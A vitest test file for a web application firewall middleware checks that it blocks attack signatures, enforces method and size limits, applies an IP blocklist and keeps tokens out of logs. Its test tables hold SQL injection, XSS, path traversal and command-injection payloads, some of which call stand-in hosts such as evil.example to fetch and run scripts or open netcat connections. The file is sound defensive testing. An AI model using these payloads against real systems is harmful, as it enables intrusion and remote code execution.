import { describe, it, expect } from 'vitest';
import { Hono } from 'hono';
import { REQUEST_ID_HEADER } from '../../../shared/request-id.js';
import { edgeConfigSchema } from '../../config.js';
import type { EdgeEnv } from '../../env.js';
import type { BlocklistEntry } from '../../platform/memory/blocklist.js';
import { createNodePlatform } from '../../platform/memory/platform.js';
import type { LogLevel, Platform } from '../../platform/port.js';
import { requestId } from '../request-id/index.js';
import { wafConfigSchema } from './config.js';
import { WAF_RULE_HEADER, WAF_RULES, waf, type WafOptions, type WafRuleId } from './index.js';
import { decodeAgain, decodeOnce, inspectQuery, matchSignature, splitTarget } from './rules.js';

const IP = '203.0.113.9';
const TOKEN = 'ghee_read_QXJ0aWNsZVRva2VuU2VjcmV0VmFsdWUxMjM0NTY3ODkw_abc123';

interface LogLine {
  level: LogLevel;
  message: string;
  fields: Record<string, unknown> | undefined;
}

interface Harness {
  app: Hono<EdgeEnv>;
  /** "METHOD /path" of every request that got past the WAF. */
  reached: string[];
  logs: LogLine[];
}

interface HarnessOptions {
  /** WAF settings as an operator would write them in the Config Store (JSON). */
  waf?: Record<string, unknown>;
  blocklist?: BlocklistEntry[];
  wafOptions?: WafOptions;
  platform?: (p: Platform) => Platform;
}

function harness(opts: HarnessOptions = {}): Harness {
  const logs: LogLine[] = [];
  const reached: string[] = [];
  const node = createNodePlatform({
    originUrl: 'http://127.0.0.1:9',
    blocklist: opts.blocklist ?? [],
    log: (level, message, fields) => logs.push({ level, message, fields }),
  });
  const platform = opts.platform ? opts.platform(node) : node;
  const config = edgeConfigSchema.parse({ edge_shared_secret: 'x'.repeat(32), waf: JSON.stringify(opts.waf ?? {}) });
  const app = new Hono<EdgeEnv>({ strict: false });
  app.use('*', requestId());
  app.use('*', async function context(c, next) {
    c.set('platform', platform);
    c.set('config', config);
    await next();
  });
  app.use('*', waf(opts.wafOptions));
  app.all('*', (c) => {
    reached.push(`${c.req.method} ${new URL(c.req.url).pathname}`);
    return c.json({ ok: true });
  });
  return { app, reached, logs };
}

function send(h: Harness, path: string, init: RequestInit = {}, env: Record<string, unknown> = {}): Promise<Response> {
  return Promise.resolve(h.app.request(path, init, { clientIp: IP, ...env }));
}

/** Asserts a WAF block: status, the one error shape, the rule id in detail and header, origin untouched. */
async function expectBlocked(h: Harness, res: Response, rule: WafRuleId): Promise<Record<string, unknown>> {
  const body = (await res.json()) as Record<string, unknown>;
  expect({ rule: res.headers.get(WAF_RULE_HEADER), code: body.code }).toEqual({ rule, code: WAF_RULES[rule].code });
  expect(res.status).toBe(statusOf(rule));
  expect(Object.keys(body).sort()).toEqual(['code', 'detail', 'request_id']);
  expect(String(body.detail).startsWith(`Request blocked by WAF rule ${rule}.`)).toBe(true);
  expect(body.request_id).toBe(res.headers.get(REQUEST_ID_HEADER));
  expect(res.headers.get('content-type')).toContain('application/json');
  expect(res.headers.get('cache-control')).toBe('no-store');
  expect(h.reached).toEqual([]);
  return body;
}

function statusOf(rule: WafRuleId): number {
  const statuses: Record<string, number> = {
    ip_blocked: 403,
    waf_blocked: 403,
    bad_request: 400,
    method_not_allowed: 405,
    payload_too_large: 413,
    uri_too_long: 414,
    headers_too_large: 431,
  };
  return statuses[WAF_RULES[rule].code] ?? 0;
}

async function expectPassed(h: Harness, res: Response): Promise<void> {
  expect(res.headers.get(WAF_RULE_HEADER)).toBeNull();
  expect(res.status).toBe(200);
  expect(h.reached).toHaveLength(1);
  expect(h.logs.filter((l) => l.message === 'waf block')).toEqual([]);
}

const q = (value: string) => `/v2/search/?query=${encodeURIComponent(value)}&auth_token=${TOKEN}`;

describe('waf: attack signatures', () => {
  it.each<[string, string, WafRuleId]>([
    // SQL injection
    ['tautology', "' or 1=1--", 'sqli-001'],
    ['tautology, quoted strings', "admin' OR '1'='1", 'sqli-001'],
    ['tautology, double quotes', '" or ""="', 'sqli-001'],
    ['tautology, numeric', '1 or 1=1', 'sqli-001'],
    ['tautology, comment spacing', "'/**/or/**/1=1", 'sqli-001'],
    ['tautology, parenthesised', "') or ('a'='a", 'sqli-001'],
    ['tautology, ||', "' || 1=1", 'sqli-001'],
    ['union select', '1 union select username, password from users', 'sqli-002'],
    ['UNION ALL SELECT', '1 UNION ALL SELECT null,null', 'sqli-002'],
    ['union/**/select', '1 union/**/select 1', 'sqli-002'],
    ['union(select', '-1 UnIoN(SeLeCt 1)', 'sqli-002'],
    ['MySQL versioned comments', '1 /*!50000union*/ /*!50000select*/ 1', 'sqli-002'],
    ['; drop table', '1; drop table users', 'sqli-003'],
    ["';DROP TABLE", "x';DROP TABLE pages;--", 'sqli-003'],
    ['; delete from', '1; delete from api_keys', 'sqli-003'],
    ['; insert into', '1; insert into users values (1)', 'sqli-003'],
    ['; update … set', "1;update users set role='admin'", 'sqli-003'],
    ['; exec', "1; exec xp_cmdshell 'dir'", 'sqli-003'],
    ['sleep(', '1 and sleep(5)', 'sqli-004'],
    ['benchmark(', '1 AND BENCHMARK(5000000,MD5(1))', 'sqli-004'],
    ['pg_sleep(', '1 || pg_sleep(10)', 'sqli-004'],
    ['waitfor delay', "1 waitfor delay '0:0:5'", 'sqli-004'],
    ["admin'--", "admin'--", 'sqli-005'],
    ["admin' -- ", "admin' -- ", 'sqli-005'],
    ["x'/*", "x'/* comment", 'sqli-005'],
    ['admin")--', 'admin")--', 'sqli-005'],
    ["admin'#", "admin'#", 'sqli-005'],
    ["' order by 1", "1' ORDER BY 3--", 'sqli-005'],
    ['extractvalue(', "1 and extractvalue(1,concat(0x7e,version()))", 'sqli-006'],
    ['@@version', 'select @@version', 'sqli-006'],
    ['information_schema', 'select table_name from information_schema.tables', 'sqli-006'],
    ['into outfile', "1 into outfile '/tmp/x'", 'sqli-006'],
    // Cross-site scripting
    ['<script>', '<script>alert(1)</script>', 'xss-001'],
    ['mixed-case script', '<ScRiPt src=//evil.example/x.js>', 'xss-001'],
    ['javascript:', 'javascript:alert(1)', 'xss-002'],
    ['JaVaScRiPt:', 'JaVaScRiPt:void(0)', 'xss-002'],
    ['data:text/html', 'data:text/html;base64,PHNjcmlwdD4=', 'xss-002'],
    ['onerror=', '<img src=x onerror=alert(1)>', 'xss-003'],
    ['attribute break-out', '" onmouseover="x', 'xss-003'],
    ['<svg/onload', '<svg/onload', 'xss-004'],
    ['<img src=x onerror', '<img src=x onerror', 'xss-004'],
    ['<iframe', '<iframe src=//evil.example>', 'xss-004'],
    ['alert(', "'-alert(1)-'", 'xss-005'],
    ['document.cookie', 'new Image().src=document.cookie', 'xss-005'],
    ['fromCharCode', 'String.fromCharCode(88,83,83)', 'xss-005'],
    // Path traversal
    ['../ in a value', '../../config/secrets', 'trav-001'],
    ['..\\ in a value', '..\\..\\windows', 'trav-001'],
    ['/etc/passwd', '/etc/passwd', 'trav-002'],
    ['win.ini', 'C:\\Windows\\win.ini', 'trav-002'],
    ['php://', 'php://filter/resource=index', 'trav-003'],
    ['gopher://', 'gopher://127.0.0.1:6379/_', 'trav-003'],
    // Command injection
    ['; cat ', 'x; cat secrets.txt', 'cmdi-001'],
    ['| nc ', 'a | nc 10.0.0.1 4444', 'cmdi-001'],
    ['&& wget', 'x && wget http://evil.example/x', 'cmdi-001'],
    ['|| curl', 'x || curl evil.example', 'cmdi-001'],
    ['& wget', 'x & wget http://evil.example/x', 'cmdi-001'],
    ['| bash', 'curl evil.example/x.sh | bash', 'cmdi-001'],
    [';id', '1;id', 'cmdi-001'],
    ['$(', '$(whoami)', 'cmdi-002'],
    ['${', 'x${HOME}', 'cmdi-002'],
    ['backticks', '`id`', 'cmdi-003'],
    ['backticks, spaced', 'a ` whoami`', 'cmdi-003'],
    ['/bin/sh', '/bin/bash -i', 'cmdi-004'],
    ['cmd.exe', 'cmd.exe /c dir', 'cmdi-004'],
  ])('blocks %s in the query (%j) as %s', async (_label, payload, rule) => {
    const h = harness();
    const res = await send(h, q(payload));
    const body = await expectBlocked(h, res, rule);
    expect(body.detail).toBe(`Request blocked by WAF rule ${rule}.`);
  });

  it.each<[string, WafRuleId]>([
    ["/v2/pages/*/home'--", 'sqli-005'],
    ['/v2/pages/*/1%20union%20select%201/', 'sqli-002'],
    ['/v2/pages/*/%3Cscript%3Ealert(1)%3C/script%3E', 'xss-001'],
    ['/v2/pages/*/%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'path-002'],
    ['/v2/pages/*/%253Cscript%253E/', 'xss-001'],
    ['/v2/pages/%2e%2e/%2e%2e/etc/passwd', 'trav-002'],
    ['/v2/../etc/passwd', 'trav-002'],
    ['/.git/config', 'trav-002'],
    ['/.env', 'trav-002'],
    ['/assets/sp/as/%24(reboot).png', 'cmdi-002'],
    ['/v2/pages/*/x%3Bcat%20%2Fbin%2Fsh', 'path-002'],
  ])('blocks %s (path) as %s', async (path, rule) => {
    const h = harness();
    await expectBlocked(h, await send(h, path), rule);
  });

  it('also decodes query names, and + as a space', async () => {
    const h = harness();
    await expectBlocked(h, await send(h, '/v2/posts/?%3Cscript%3E=1'), 'xss-001');
    const h2 = harness();
    await expectBlocked(h2, await send(h2, '/v2/posts/?q=1+union+all+select+2'), 'sqli-002');
  });

  it('catches double-encoded payloads', async () => {
    const h = harness();
    await expectBlocked(h, await send(h, '/v2/search/?query=%2527%2520or%25201%253D1'), 'sqli-001');
  });
});

describe('waf: encoding and path normalisation', () => {
  it.each<[string, WafRuleId]>([
    ['/v2/pages/%00/', 'enc-003'],
    ['/v2/pages/a%00.json', 'enc-003'],
    ['/v2/pages/%2500/', 'enc-003'],
    ['/v2/pages/a%0d%0aSet-Cookie:x/', 'enc-004'],
    ['/v2/pages/a%09b/', 'enc-004'],
    ['/v2/pages/a%7f/', 'enc-004'],
    ['/v2/pages/%c0%ae%c0%ae/secret', 'enc-002'],
    ['/v2/pages/%c0%af/', 'enc-002'],
    ['/v2/pages/%e0%80%ae/', 'enc-002'],
    ['/v2/pages/%C0%AE/', 'enc-002'],
    ['/v2/pages/%25c0%25ae/', 'enc-002'],
    ['/v2/pages/%ff/', 'enc-002'],
    ['/v2/pages/%zz/', 'enc-001'],
    ['/v2/pages/%/', 'enc-001'],
    ['/v2/pages/..%2f..%2fsecret', 'path-001'],
    ['/v2/pages/%2e%2e%2fsecret', 'path-001'],
    ['/v2/pages/%252e%252e/secret', 'path-001'],
    ['/v2/pages/%252E%252e/secret', 'path-001'],
    ['/v2/pages/..%5csecret', 'path-001'],
    ['/v2/pages/..;/secret', 'path-001'],
    ['/v2/pages/a%2fb', 'path-002'],
    ['/v2/pages/a%2Fb', 'path-002'],
    ['/v2/pages/a%5Cb', 'path-002'],
    ['/v2/pages/a%252fb', 'path-002'],
    ['/v2/search/?query=%00', 'enc-003'],
    ['/v2/search/?query=a%0ab', 'enc-004'],
    ['/v2/search/?query=%c0%ae%c0%ae%2f', 'enc-002'],
    ['/v2/search/?query=100%', 'enc-001'],
    ['/v2/search/?%00=x', 'enc-003'],
  ])('refuses %s as %s', async (path, rule) => {
    const h = harness();
    await expectBlocked(h, await send(h, path), rule);
  });

  // The WHATWG URL parser (Request) already resolves `/a/../b`, `%2e%2e` and `\`; the raw target
  // as received (Node: IncomingMessage.url) still shows them.
  it.each<[string, string, WafRuleId]>([
    ['/v2/x', '/v2/a/../x', 'path-001'],
    ['/v2/x', '/v2/a/%2e%2e/x', 'path-001'],
    ['/v2/x', '/v2/a/.%2E/x', 'path-001'],
    ['/v2/a/x', '/v2/a\\x', 'path-003'],
    ['/x', '/v2/..\\..\\x', 'path-001'],
    ['/v2/x?a=1', 'http://localhost/v2/%2E%2E/x?a=1', 'path-001'],
    ['/v2/x', '/v2/x?q=%3Cscript%3E', 'xss-001'],
  ])('refuses the raw target of %s received as %j (%s)', async (url, raw, rule) => {
    const h = harness();
    await expectBlocked(h, await send(h, url, {}, { incoming: { url: raw } }), rule);
  });

  it('takes the raw target from the rawTarget option when given', async () => {
    const h = harness({ wafOptions: { rawTarget: () => '/v2/pages/../../etc/shadow' } });
    await expectBlocked(h, await send(h, '/etc/shadow'), 'path-001');
  });
});

describe('waf: method allowlist per route class', () => {
  it.each<[string, string, string]>([
    ['DELETE', '/v2/pages/*/home/', 'GET, HEAD, OPTIONS'],
    ['POST', '/v2/pages/', 'GET, HEAD, OPTIONS'],
    ['PUT', '/v2/posts/hello/', 'GET, HEAD, OPTIONS'],
    ['PATCH', '/v2/posts/hello/', 'GET, HEAD, OPTIONS'],
    ['PROPFIND', '/v2/', 'GET, HEAD, OPTIONS'],
    ['PUT', '/assets/sp/as/logo.png', 'GET, HEAD, OPTIONS'],
    ['POST', '/assets/sp/as/logo.png', 'GET, HEAD, OPTIONS'],
    ['POST', '/.edge/health', 'GET, HEAD'],
    ['OPTIONS', '/.edge/health', 'GET, HEAD'],
    ['DELETE', '/.edge/purge', 'GET, HEAD, POST'],
    ['OPTIONS', '/.edge/purge', 'GET, HEAD, POST'],
    ['POST', '/wp-login.php', 'GET, HEAD, OPTIONS'],
    ['DELETE', '/', 'GET, HEAD, OPTIONS'],
  ])('%s %s → 405 with Allow: %s', async (method, path, allow) => {
    const h = harness();
    const res = await send(h, path, { method });
    expect(res.headers.get('allow')).toBe(allow);
    await expectBlocked(h, res, 'method-001');
  });

  it.each<[string, string]>([
    ['GET', '/v2/pages/*/home/'],
    ['HEAD', '/v2/pages/*/home/'],
    ['OPTIONS', '/v2/pages/*/home/'],
    ['GET', '/assets/sp/as/logo.png'],
    ['HEAD', '/assets/sp/as/logo.png'],
    ['OPTIONS', '/assets/sp/as/logo.png'],
    ['GET', '/.edge/health'],
    ['HEAD', '/.edge/health'],
    ['GET', '/robots.txt'],
    ['OPTIONS', '/'],
  ])('%s %s passes', async (method, path) => {
    const h = harness();
    await expectPassed(h, await send(h, path, { method }));
  });

  it.each(['/.edge/purge', '/.edge/purge/'])('POST %s with a small body passes', async (path) => {
    const h = harness();
    const body = JSON.stringify({ keys: ['page:1'] });
    await expectPassed(h, await send(h, path, { method: 'POST', body, headers: { 'content-length': String(body.length), 'content-type': 'application/json' } }));
  });
});

describe('waf: limits', () => {
  const path = (length: number) => `/v2/${'a'.repeat(length - 4)}`;

  it('URL length: at the limit passes, one over is 414', async () => {
    const h = harness({ waf: { max_url_length: 64 } });
    expect(path(64)).toHaveLength(64);
    await expectPassed(h, await send(h, path(64)));
    const h2 = harness({ waf: { max_url_length: 64 } });
    const body = await expectBlocked(h2, await send(h2, path(65)), 'limit-001');
    expect(body.detail).toContain('64 characters');
  });

  it('URL length counts the query', async () => {
    const target = `/v2/x?q=${'b'.repeat(56)}`;
    expect(target).toHaveLength(64);
    const h = harness({ waf: { max_url_length: 64 } });
    await expectPassed(h, await send(h, target));
    const h2 = harness({ waf: { max_url_length: 64 } });
    await expectBlocked(h2, await send(h2, `${target}b`), 'limit-001');
  });

  it('URL length counts the raw target when it is longer', async () => {
    const h = harness({ waf: { max_url_length: 64 } });
    await expectBlocked(h, await send(h, '/v2/x', {}, { incoming: { url: `/v2/${'a/../'.repeat(20)}x` } }), 'limit-001');
  });

  const headers = (n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`x-h${i}`, 'v']));

  it('header count: at the limit passes, one over is 431', async () => {
    const h = harness({ waf: { max_header_count: 4 } });
    await expectPassed(h, await send(h, '/v2/x', { headers: headers(4) }));
    const h2 = harness({ waf: { max_header_count: 4 } });
    await expectBlocked(h2, await send(h2, '/v2/x', { headers: headers(5) }), 'limit-002');
  });

  it('header bytes (names + values): at the limit passes, one over is 431', async () => {
    // "x-pad" is 5 bytes.
    const h = harness({ waf: { max_header_bytes: 100 } });
    await expectPassed(h, await send(h, '/v2/x', { headers: { 'x-pad': 'v'.repeat(95) } }));
    const h2 = harness({ waf: { max_header_bytes: 100 } });
    await expectBlocked(h2, await send(h2, '/v2/x', { headers: { 'x-pad': 'v'.repeat(96) } }), 'limit-003');
  });

  it('query parameters: at the limit passes, one over is 414; empty pieces do not count', async () => {
    const h = harness({ waf: { max_query_params: 3 } });
    await expectPassed(h, await send(h, '/v2/x?a=1&b=2&c=3'));
    const h2 = harness({ waf: { max_query_params: 3 } });
    await expectBlocked(h2, await send(h2, '/v2/x?a=1&b=2&c=3&d'), 'limit-004');
    const h3 = harness({ waf: { max_query_params: 3 } });
    await expectPassed(h3, await send(h3, '/v2/x?a=1&&&b=2&c=3&'));
  });

  const post = (n: number, extra: Record<string, string> = {}): RequestInit => ({
    method: 'POST',
    body: 'x'.repeat(n),
    headers: { 'content-length': String(n), ...extra },
  });

  it('body on the purge endpoint: at the limit passes, one over is 413', async () => {
    const h = harness({ waf: { max_body_bytes: { internal: 10 } } });
    await expectPassed(h, await send(h, '/.edge/purge', post(10)));
    const h2 = harness({ waf: { max_body_bytes: { internal: 10 } } });
    const body = await expectBlocked(h2, await send(h2, '/.edge/purge', post(11)), 'limit-005');
    expect(body.detail).toContain('10 bytes');
  });

  it('default purge limit is 64 KiB', async () => {
    const h = harness();
    await expectPassed(h, await send(h, '/.edge/purge', { method: 'POST', headers: { 'content-length': '65536' }, body: 'x'.repeat(65_536) }));
    const h2 = harness();
    await expectBlocked(h2, await send(h2, '/.edge/purge', { method: 'POST', headers: { 'content-length': '65537' }, body: 'x'.repeat(65_537) }), 'limit-005');
  });

  it.each<[string, string, RequestInit, WafRuleId | null]>([
    ['Content-Length: 0 on content', '/v2/x', { headers: { 'content-length': '0' } }, null],
    ['Content-Length: 1 on content (limit 0)', '/v2/x', { headers: { 'content-length': '1' } }, 'limit-005'],
    ['Content-Length on assets (limit 0)', '/assets/a/b/c.png', { method: 'OPTIONS', headers: { 'content-length': '5' }, body: 'hello' }, 'limit-005'],
    ['Content-Length on other (limit 0)', '/x', { headers: { 'content-length': '20' } }, 'limit-005'],
    ['chunked on content (limit 0)', '/v2/x', { headers: { 'transfer-encoding': 'chunked' } }, 'limit-006'],
    ['chunked OPTIONS on content', '/v2/x', { method: 'OPTIONS', headers: { 'transfer-encoding': 'chunked' } }, 'limit-006'],
    ['chunked on the purge endpoint', '/.edge/purge', { method: 'POST', headers: { 'transfer-encoding': 'chunked' } }, 'limit-006'],
    ['Content-Length: abc', '/v2/x', { headers: { 'content-length': 'abc' } }, 'limit-007'],
    ['Content-Length: -1', '/v2/x', { headers: { 'content-length': '-1' } }, 'limit-007'],
    ['Content-Length: 1e3', '/.edge/purge', { method: 'POST', headers: { 'content-length': '1e3' } }, 'limit-007'],
    ['Content-Length: 5, 5', '/.edge/purge', { method: 'POST', headers: { 'content-length': '5, 5' } }, 'limit-007'],
    ['Content-Length and Transfer-Encoding', '/.edge/purge', { method: 'POST', headers: { 'content-length': '4', 'transfer-encoding': 'chunked' } }, 'limit-007'],
  ])('%s', async (_label, path, init, rule) => {
    const h = harness();
    const res = await send(h, path, init);
    if (rule === null) await expectPassed(h, res);
    else await expectBlocked(h, res, rule);
  });

  it('a streamed body without Content-Length is refused (413)', async () => {
    const h = harness();
    const stream = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(new TextEncoder().encode('{"keys":["a"]}'));
        controller.close();
      },
    });
    const init = { method: 'POST', body: stream, duplex: 'half' } as RequestInit;
    await expectBlocked(h, await send(h, '/.edge/purge', init), 'limit-006');
  });
});

describe('waf: IP blocklist', () => {
  const blocklist: BlocklistEntry[] = [
    { prefix: '198.51.100.0/24', action: 'BLOCK' },
    { prefix: '198.51.100.8', action: 'ALLOW' },
    { prefix: '2001:db8:bad::/48', action: 'BLOCK' },
  ];

  it.each([
    ['IPv4 in a blocked /24', '198.51.100.7'],
    ['IPv6 in a blocked /48', '2001:db8:bad::1'],
    ['IPv6 in a blocked /48 (expanded form)', '2001:0db8:0bad:0000:0000:0000:0000:0001'],
    ['IPv4-mapped IPv6', '::ffff:198.51.100.7'],
  ])('%s → 403 ip_blocked', async (_label, ip) => {
    const h = harness({ blocklist });
    const body = await expectBlocked(h, await send(h, '/v2/pages/*/home/', {}, { clientIp: ip }), 'ip-blocklist');
    expect(body.code).toBe('ip_blocked');
  });

  it.each([
    ['carved out by a longer ALLOW entry', '198.51.100.8'],
    ['not listed', '192.0.2.1'],
    ['IPv6 outside the prefix', '2001:db8:bae::1'],
    ['not an address', 'not-an-ip'],
  ])('%s → passes', async (_label, ip) => {
    const h = harness({ blocklist });
    await expectPassed(h, await send(h, '/v2/pages/*/home/', {}, { clientIp: ip }));
  });

  it('a request without a client IP is not looked up and passes', async () => {
    const h = harness({ blocklist: [{ prefix: '0.0.0.0/1', action: 'BLOCK' }] });
    const res = await h.app.request('/v2/x');
    await expectPassed(h, res);
  });

  it('is checked first: a blocked address gets 403 whatever else is wrong', async () => {
    const h = harness({ blocklist });
    await expectBlocked(h, await send(h, '/v2/x?q=%3Cscript%3E', { method: 'DELETE' }, { clientIp: '198.51.100.1' }), 'ip-blocklist');
  });

  it('a failing blocklist lookup is logged and the request served', async () => {
    const h = harness({
      platform: (p) => ({
        ...p,
        blocklist: {
          lookup: async () => {
            throw new Error('ACL ghee_blocklist not linked');
          },
        },
      }),
    });
    const res = await send(h, '/v2/x');
    expect(res.status).toBe(200);
    expect(h.reached).toHaveLength(1);
    expect(h.logs).toEqual([expect.objectContaining({ level: 'error', message: 'waf blocklist lookup failed' })]);
  });
});

describe('waf: benign traffic', () => {
  it.each([
    '/v2/pages/*/home/?locale=en&levels=2&fields.title=Hello%20World&order=-published&page=2&page_size=10&query=select%20a%20plan',
    '/v2/pages/landing-page/spring-sale-2024/?preview=1&locale=en',
    '/v2/pages/*/?fields.seo.title=Pricing%20%7C%20Acme&page_size=100',
    '/v2/posts/?page=1&page_size=10&exclude_body=true&author_slug=jennifer-smith&category_slug=product-updates&tag_slug=announcements',
    '/v2/posts/my-first-post/',
    '/v2/posts/?fields.published__gte=2024-01-01T00%3A00%3A00Z',
    '/v2/search/?query=union%20station&page=1',
    '/v2/search/?query=select',
    '/v2/search/?query=union',
    '/v2/search/?query=select%20*%20from%20our%20plans',
    '/v2/search/?query=how+to+drop+a+table+cloth',
    '/v2/search/?query=Tom%20%26%20Jerry%27s%20%22best%22%20episodes',
    '/v2/search/?query=O%27Reilly%20or%20Manning',
    "/v2/search/?query=rock%20'n'%20roll",
    '/v2/search/?query=it%27s%20--%20complicated',
    '/v2/search/?query=%22--verbose%22%20flag',
    '/v2/search/?query=C%2B%2B%20vs%20C%23',
    '/v2/search/?query=100%25%20natural',
    '/v2/search/?query=50%25off',
    '/v2/search/?query=caf%C3%A9%20cr%C3%A8me%20br%C3%BBl%C3%A9e',
    '/v2/search/?query=%E6%97%A5%E6%9C%AC%E8%AA%9E',
    '/v2/search/?query=email%40example.com',
    '/v2/search/?query=javascript%20tutorials',
    '/v2/search/?query=how%20to%20sleep%20better',
    '/v2/search/?query=1%3D1',
    '/v2/search/?query=cats%20and%20dogs',
    '/v2/search/?query=order%20by%20date',
    '/v2/search/?query=online%20courses',
    '/v2/search/?query=%3C3%20cats',
    '/v2/search/?query=a%2Fb%20testing',
    '/v2/search/?query=Q%26A%3A%20what%27s%20new%3F',
    '/v2/search/?query=dogs%3B%20categories',
    '/v2/search/?query=price%20%24100',
    '/v2/search/?query=..%20and%20so%20on',
    '/v2/pages/*/?fields.url=https%3A%2F%2Fexample.com%2Fpath%2Fto%2Fpage',
    '/v2/content/?keys=homepage_headline,faq_items&locale=es',
    '/v2/content/faq/?fields.question=How%20do%20I%20reset%20my%20password%3F',
    '/v2/authors/?include=recent_posts',
    '/v2/categories/?include=recent_posts',
    '/v2/feeds/rss/',
    '/v2/feeds/sitemap/',
    `/v2/pages/*/home/?auth_token=${TOKEN}`,
    '/assets/4f1c2b/9b2e7a/hero-image%402x.png',
    '/assets/4f1c2b/9b2e7a/My%20Report%20(final).pdf',
    '/assets/4f1c2b/9b2e7a/100%25%20natural.jpg',
    '/.edge/health',
    '/',
    '/favicon.ico',
  ])('passes %s', async (path) => {
    const h = harness();
    await expectPassed(h, await send(h, path));
  });
});

describe('waf: logging', () => {
  it('logs each block with request id, rule, ip, method and path — never the query', async () => {
    const h = harness();
    const res = await send(h, `/v2/search/?auth_token=${TOKEN}&query=%3Cscript%3E`, { headers: { [REQUEST_ID_HEADER]: 'trace-waf-abcdef' } });
    await expectBlocked(h, res, 'xss-001');
    expect(h.logs).toEqual([
      {
        level: 'warn',
        message: 'waf block',
        fields: { request_id: 'trace-waf-abcdef', rule: 'xss-001', ip: IP, method: 'GET', path: '/v2/search/' },
      },
    ]);
    expect(JSON.stringify(h.logs)).not.toContain(TOKEN);
    expect(JSON.stringify(h.logs)).not.toContain('script');
  });

  it.each<[string, RequestInit, WafRuleId]>([
    [`/v2/x?auth_token=${TOKEN}&q=1%20union%20select%201`, {}, 'sqli-002'],
    [`/v2/x?auth_token=${TOKEN}&q=%00`, {}, 'enc-003'],
    [`/v2/x?auth_token=${TOKEN}`, { method: 'DELETE' }, 'method-001'],
    [`/v2/x?auth_token=${TOKEN}&a&b&c&d&e&f&g&h&i&j&k&l&m&n&o&p&q&r&s&t&u&v&w&x&y&z&aa&bb&cc&dd&ee&ff&gg`, {}, 'limit-004'],
  ])('the log of a block never contains the token (%s)', async (path, init, rule) => {
    const h = harness();
    await expectBlocked(h, await send(h, path, init), rule);
    expect(h.logs).toHaveLength(1);
    expect(h.logs[0]?.fields?.rule).toBe(rule);
    expect(JSON.stringify(h.logs)).not.toContain(TOKEN);
  });

  it('truncates a very long path in the log', async () => {
    const h = harness();
    await expectBlocked(h, await send(h, `/v2/${'a'.repeat(3000)}`), 'limit-001');
    expect(String(h.logs[0]?.fields?.path)).toHaveLength(256);
  });
});

describe('waf: configuration', () => {
  it('disabled_rules switches off a signature, and only that one', async () => {
    const h = harness({ waf: { disabled_rules: ['xss-005'] } });
    await expectPassed(h, await send(h, q('red alert(s)')));
    const h2 = harness({ waf: { disabled_rules: ['xss-005'] } });
    await expectBlocked(h2, await send(h2, q('<script>')), 'xss-001');
  });

  it.each([
    [{ disabled_rules: ['method-001'] }],
    [{ disabled_rules: ['ip-blocklist'] }],
    [{ disabled_rules: ['sqli-999'] }],
    [{ max_url_length: 0 }],
    [{ max_body_bytes: { content: -1 } }],
    [{ max_body_bytes: { contnet: 10 } }],
    [{ unknown_setting: true }],
  ])('refuses %j', (settings) => {
    expect(wafConfigSchema.safeParse(settings).success).toBe(false);
  });

  it('has safe defaults', () => {
    expect(wafConfigSchema.parse({})).toEqual({
      max_url_length: 2048,
      max_header_count: 64,
      max_header_bytes: 16_384,
      max_query_params: 32,
      max_body_bytes: { content: 0, assets: 0, internal: 65_536, other: 0 },
      disabled_rules: [],
    });
  });
});

describe('waf rules (pure functions)', () => {
  it.each<[string, { path: string; query: string }]>([
    ['/a/b?c=d#e', { path: '/a/b', query: 'c=d' }],
    ['http://h:8080/a?x', { path: '/a', query: 'x' }],
    ['http://h', { path: '/', query: '' }],
    ['/a', { path: '/a', query: '' }],
  ])('splitTarget(%j)', (target, parts) => {
    expect(splitTarget(target)).toEqual(parts);
  });

  it('decodes once strictly and a second time leniently', () => {
    expect(decodeOnce('a%20b')).toEqual({ ok: true, value: 'a b' });
    expect(decodeOnce('%c0%ae')).toEqual({ ok: false, rule: 'enc-002' });
    expect(decodeOnce('%g1')).toEqual({ ok: false, rule: 'enc-001' });
    expect(decodeAgain('100% natural')).toEqual({ ok: true, value: '100% natural' });
    expect(decodeAgain('%2e%2e/%E6%97%A5')).toEqual({ ok: true, value: '../日' });
    expect(decodeAgain('%c0%ae')).toEqual({ ok: false, rule: 'enc-002' });
  });

  it('counts and decodes query parameters', () => {
    expect(inspectQuery('?a=1&b=x+y&&c')).toEqual({ ok: true, params: 3, texts: ['a', '1', 'b', 'x y', 'c'] });
  });

  it('matchSignature is fast on long adversarial input (no catastrophic backtracking)', () => {
    const inputs = ["'".repeat(5000), `' or ${'a'.repeat(5000)}`, `; update ${'a'.repeat(5000)}`, `${'on'.repeat(3000)}`, `<${'svg'.repeat(2000)}`, '%'.repeat(5000)];
    const started = performance.now();
    for (const input of inputs) matchSignature([input]);
    expect(performance.now() - started).toBeLessThan(250);
  });
});

describe('WAF fast path for plain targets', () => {
  // Targets made only of characters decoding leaves unchanged skip the decoding work; the
  // signatures that need no special characters must still fire on them.
  it.each([
    ['/v2/pages/*/home/?q=sysobjects', 'sqli-006'],
    ['/v2/pages/*/home/?q=information_schema', 'sqli-006'],
    ['/v2/pages/*/home/?file=/etc/passwd', 'trav-002'],
    ['/v2/etc/passwd', 'trav-002'],
    ['/v2/pages/*/home/?x=cmd.exe', 'cmdi-004'],
    ['/v2/pages/*/home/?x=/bin/sh', 'cmdi-004'],
    ['/v2/pages/*/home/?q=document.cookie', 'xss-005'],
  ])('%s → %s', async (target, rule) => {
    const h = harness();
    const res = await h.app.request(`http://edge.test${target}`, {}, { clientIp: IP });
    expect(res.status).toBe(403);
    expect(res.headers.get(WAF_RULE_HEADER)).toBe(rule);
    expect(h.reached).toEqual([]);
  });

  it('still counts query parameters and passes clean plain targets', async () => {
    const h = harness({ waf: { max_query_params: 2 } });
    expect((await h.app.request(`http://edge.test/v2/pages/*/home/?a=1&b=2&auth_token=${TOKEN}`, {}, { clientIp: IP })).status).toBe(414);
    expect((await h.app.request(`http://edge.test/v2/pages/*/home/?auth_token=${TOKEN}&locale=en`, {}, { clientIp: IP })).status).toBe(200);
    expect(h.reached).toHaveLength(1);
  });
});
